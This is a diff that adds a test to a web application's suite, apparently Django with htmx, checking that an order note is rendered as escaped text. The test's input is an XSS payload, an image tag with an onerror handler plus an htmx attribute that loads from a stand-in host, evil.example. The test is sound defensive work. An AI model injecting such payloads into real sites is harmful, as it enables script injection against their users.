@@ -146,3 +146,14 @@ def test_a_garbage_cursor_is_a_message_not_a_500(acme, login_as):
     response = login_as(acme).get(list_url(), {"cursor": "garbage"})
     assert response.status_code == 200
     assert "data-store-error" in response.content.decode()
+
+
+def test_store_data_stays_inert_on_the_page(acme, login_as, sandbox, sandbox_writes):
+    """A note (store data) with markup and htmx attributes is shown as text."""
+    client = login_as(acme, Role.AGENT)
+    number = sandbox.order_numbers("acme")[7]
+    evil = '<img src=x onerror=alert(1)><a hx-get="//evil.example" hx-trigger="load">x</a>'
+    client.post(reverse("order_note_add", kwargs={"store": "acme", "number": number}), {"message": evil})
+    html = client.get(detail_url(number)).content.decode()
+    assert "<img src=x" not in html and 'hx-get="//evil' not in html
+    assert "&lt;img src=x onerror=alert(1)&gt;&lt;a hx-get=&quot;//evil.example&quot;" in html
